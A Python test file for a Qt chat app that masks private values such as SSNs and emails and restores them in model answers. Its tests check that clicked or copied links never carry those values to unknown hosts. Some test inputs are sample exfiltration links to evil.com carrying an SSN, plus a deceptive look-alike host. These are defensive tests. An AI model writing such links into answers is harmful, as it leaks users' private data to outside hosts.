"""No link of an answer carries a private value away: what is opened is judged as Qt parses it.

Each answer goes through the real restorer in several chunkings and the real transcript; every
anchor is then clicked, and whatever can be opened is. What came out is recorded.
"""

import re
from collections.abc import Iterator
from urllib.parse import unquote

import pytest
from cases import tables_beside
from effort import FULL, tries
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from PySide6.QtCore import QEvent, QObject, QPoint, Qt, QUrl, Slot
from PySide6.QtGui import QDesktopServices, QTextDocument
from PySide6.QtWidgets import QApplication, QMessageBox
from replaced import prompt

from app.chat.streaming_turn import known_hosts, restoring
from app.ui.markdown.documents import FEATURES
from app.ui.markdown.view import MarkdownView
from app.ui.transcript.transcript import Transcript

CASES = tables_beside(__file__)

pytestmark = [
    pytest.mark.usefixtures("qapp"),
    pytest.mark.qt_log_ignore("This plugin does not support propagateSizeHints", extend=True),
]

SSN, THEIRS = "078-05-1120", "512-44-9031"
KEPT = "https://docs.kept.test/start"
OURS = {"docs.kept.test", "old.kept.test", "intra.acme.test"}
WORDS = "words " * 300
SIZES = (1, 3, 17, 100_000) if FULL else (1, 100_000)
SCHEMES = ("http", "https", "mailto", "file", "javascript", "ftp", "sms")

# In each the surrogate stands in an address of somebody else, or in one that no two programs read
# alike: nothing of it may be restored, neither where it is opened nor where it is copied.
ATTACKS = CASES["attacks"]


# One of each value, and a host that nobody replaced.
PROMPT = prompt(
    f"See {KEPT} and http://old.kept.test. ⟦SSN¦{SSN}¦{THEIRS}⟧ ⟦PERSON¦Anna Becker¦Maria Lopez⟧ "
    "⟦EMAIL¦anna@acme.test¦maria@example.net⟧ "
    "⟦URL¦https://intra.acme.test/wiki¦https://inlet.example.org/melody⟧"
)


class Opener(QObject):
    def __init__(self) -> None:
        super().__init__()
        self.urls: list[str] = []

    @Slot(QUrl)
    def open(self, url: QUrl) -> None:
        self.urls.append(bytes(url.toEncoded().data()).decode())


@pytest.fixture
def opened() -> Iterator[list[str]]:
    handler = Opener()
    for scheme in SCHEMES:
        QDesktopServices.setUrlHandler(scheme, handler, "open")
    yield handler.urls
    for scheme in SCHEMES:
        QDesktopServices.unsetUrlHandler(scheme)


@pytest.fixture
def transcript(qtbot) -> Transcript:
    made = Transcript()
    made.hosts = lambda _turn: known_hosts([PROMPT])
    qtbot.addWidget(made)
    return made


def receive(transcript: Transcript, answer: str, size: int) -> str:
    """Take an answer in as it is streamed; gives what was restored."""
    sent = PROMPT
    transcript.clear()
    transcript.add_turn(1, sent)
    restorer = restoring(sent.replacements, [sent.original], [sent])
    pieces, told = [], 0
    chunks = [answer[at : at + size] for at in range(0, len(answer), size)]
    for piece in (*map(restorer.feed, chunks), restorer.flush()):
        pieces.append(piece)
        transcript.views[1].append_answer(piece, restorer.restored[told:])
        told = len(restorer.restored)
    restored = "".join(pieces)
    transcript.views[1].finish_answer(answer, restored, restorer.restored)
    return restored


def anchors(document: QTextDocument) -> list[str]:
    """Every address that a document links to."""
    found = []
    block = document.begin()
    while block.isValid():
        place = block.begin()
        while not place.atEnd():
            shape = place.fragment().charFormat()
            found += [shape.anchorHref()] if shape.isAnchor() else []
            place += 1
        block = block.next()
    return found


def click_all(transcript: Transcript) -> None:
    """Click every link there is, and open whatever Sotto offers to open."""
    QApplication.sendPostedEvents(None, QEvent.Type.DeferredDelete)  # what was there before
    for view in transcript.findChildren(MarkdownView):
        view.plain()
        for href in dict.fromkeys(anchors(view.document())):
            view.anchorClicked.emit(QUrl(href))
    for box in QApplication.topLevelWidgets():
        if isinstance(box, QMessageBox):
            opens = [button for button in box.buttons() if button.text() == "Open"]
            (opens[0].click if opens else box.reject)()


def digits(text: str) -> str:
    return re.sub(r"\D", "", unquote(text))


def carried(url: str) -> bool:
    """Whether an address holds the value and leads to nobody known."""
    return digits(SSN) in digits(url) and QUrl(url).host() not in OURS


@pytest.mark.parametrize("name", ATTACKS)
def test_no_address_of_others_holds_a_value(transcript, opened, name) -> None:
    for size in SIZES:
        restored = receive(transcript, ATTACKS[name], size)
        click_all(transcript)
        assert not [url for url in opened if digits(SSN) in digits(url)]
        assert SSN not in restored  # whoever copies it pastes what was received


def test_a_known_host_gets_what_is_its_own(transcript: Transcript, opened: list[str]) -> None:
    answer = (
        f"[a](https://docs.kept.test/?n={THEIRS}) [b](https://inlet.example.org/melody?n={THEIRS}) "
        f"[c](mailto:maria@example.net) [d](https://docs.kept.test:443/?n={THEIRS}#x) "
        f"[e](http://inlet.example.org:99/?n={THEIRS}) [f](https://old.kept.test/?n={THEIRS}) "
        f"[g](http://old.kept.test/?n={THEIRS})"
    )
    for size in SIZES:
        opened.clear()
        receive(transcript, answer, size)
        click_all(transcript)
        assert set(opened) == {
            f"https://docs.kept.test/?n={SSN}",
            f"https://intra.acme.test/wiki?n={SSN}",
            "mailto:anna@acme.test",
            f"https://docs.kept.test:443/?n={SSN}#x",
            f"http://intra.acme.test:99/?n={THEIRS}",  # nobody else's, by a port nobody named
            f"https://old.kept.test/?n={SSN}",
            f"http://old.kept.test/?n={SSN}",
        }


def test_words_beside_an_address_come_back(transcript: Transcript) -> None:
    for around in (
        "[Maria Lopez](https://evil.com/x) Maria Lopez",
        "(see https://evil.com/x) Maria Lopez, https://docs.kept.test, Maria Lopez",
        '{"url": "https://evil.com/x", "name": "Maria Lopez"}',
        "<https://evil.com/x> Maria Lopez",
        "[Maria Lopez](Maria_Lopez.pdf), [x](#maria) Maria Lopez",
        "Use https: Maria Lopez",
        "`https://docs.kept.test` Maria Lopez. **https://docs.kept.test** Maria Lopez",
        "A well-known fact e.g. Maria Lopez. Node.js Maria Lopez",
        "f[0](Maria Lopez) [1]: Maria Lopez",
    ):
        for size in SIZES:
            restored = receive(transcript, around, size)
            shown = around.replace("Maria Lopez", "Anna Becker")
            shown = shown.replace("Maria_Lopez.pdf", "Anna_Becker.pdf").replace("#maria", "#anna")
            assert restored == shown


def test_an_answer_whose_values_are_not_marked_leads_to_known_hosts_alone(
    transcript, opened
) -> None:
    """As one that a file brought, or that a local model wrote out of private words."""
    transcript.add_turn(1, PROMPT)
    text = f"[x](https://evil.com/?q={SSN}) [y](https://docs.kept.test/{SSN})"
    fitted = transcript.views[1].fitted()
    assert fitted is not None
    fitted.append(text)
    fitted.finish(text)
    click_all(transcript)
    assert opened == [f"https://docs.kept.test/{SSN}"]
    transcript.views[1].finish_answer("other words", text, ())
    click_all(transcript)
    assert not [url for url in opened if carried(url)]


def test_the_question_shows_the_whole_host(qtbot) -> None:
    view = MarkdownView("Answer")
    qtbot.addWidget(view)
    host = ".".join([*["accounts"] * 26, "evil", "com"])
    for target in (f"https://{host}/{'a' * 5000}", f"mailto:a@{host}?body={'a' * 5000}"):
        box = view.ask_to_open(QUrl(target))
        assert box is not None
        assert host in box.text().replace("\n", "")
        assert host in box.informativeText().replace("\n", "")
        assert max(map(len, box.informativeText().splitlines())) <= 64
        box.reject()


@pytest.mark.parametrize(("target", "why"), CASES["what_programs_read_differently_is_never_opened"])
def test_what_programs_read_differently_is_never_opened(qtbot, opened, target, why) -> None:
    view = MarkdownView("Answer")
    qtbot.addWidget(view)
    box = view.ask_to_open(QUrl(target))
    assert box is not None
    assert box.text() == why
    assert [button.text() for button in box.buttons()] == ["Close"]
    box.accept()
    assert opened == []


def test_a_click_of_the_mouse_asks_about_what_was_judged(transcript, opened, qtbot) -> None:
    transcript.resize(700, 400)
    with qtbot.waitExposed(transcript):
        transcript.show()
    receive(transcript, rf"[press](https\://evil\.com/?q={THEIRS})", 5)
    view = transcript.findChildren(MarkdownView)[0]
    view.plain()
    qtbot.waitUntil(lambda: view.isVisible() and view.width() > 300)
    place = view.cursorRect(view.document().find("pre"))
    qtbot.mouseClick(
        view.viewport(), Qt.MouseButton.LeftButton, pos=place.center() - QPoint(5, 0), delay=50
    )
    click_all(transcript)
    assert set(opened) == {f"https://evil.com/?q={THEIRS}"}
    assert len(opened) > 1  # the mouse's, and that of `click_all`


def test_a_question_about_own_values_says_so(transcript: Transcript) -> None:
    receive(transcript, f"[a](https://docs.kept.test/?n={THEIRS}) [b](https://docs.kept.test/)", 9)
    view = transcript.findChildren(MarkdownView)[0]
    said = [view.ask_to_open(QUrl(href)) for href in anchors(view.document())]
    assert ["values of your own" in box.text() for box in said if box] == [True, False]


PIECES = CASES["pieces"]
TAILS = [*PIECES["tails"], f"/{'a' * 2100}"]
ADDRESSES = st.tuples(
    *(st.sampled_from(PIECES[name]) for name in ("heads", "signs", "slashes")),
    st.lists(st.sampled_from(PIECES["parts"]), min_size=1, max_size=5).map("".join),
    st.sampled_from(TAILS),
).map("".join)


@settings(max_examples=tries(120), suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(ADDRESSES, st.sampled_from(PIECES["frames"]), st.integers(1, 40))
def test_whatever_stands_around_the_host_qt_decides(
    transcript, opened, address, frame, size
) -> None:
    opened.clear()
    restored = receive(transcript, frame.format(f"{address}{THEIRS}"), size)
    click_all(transcript)
    assert not [url for url in opened if carried(url) or QUrl(url).userInfo()]
    pasted = QTextDocument()  # what a copy of the answer links to in any other program
    pasted.setMarkdown(f"\n{restored}", FEATURES)
    assert not [href for href in anchors(pasted) if QUrl(href).host() and carried(href)]
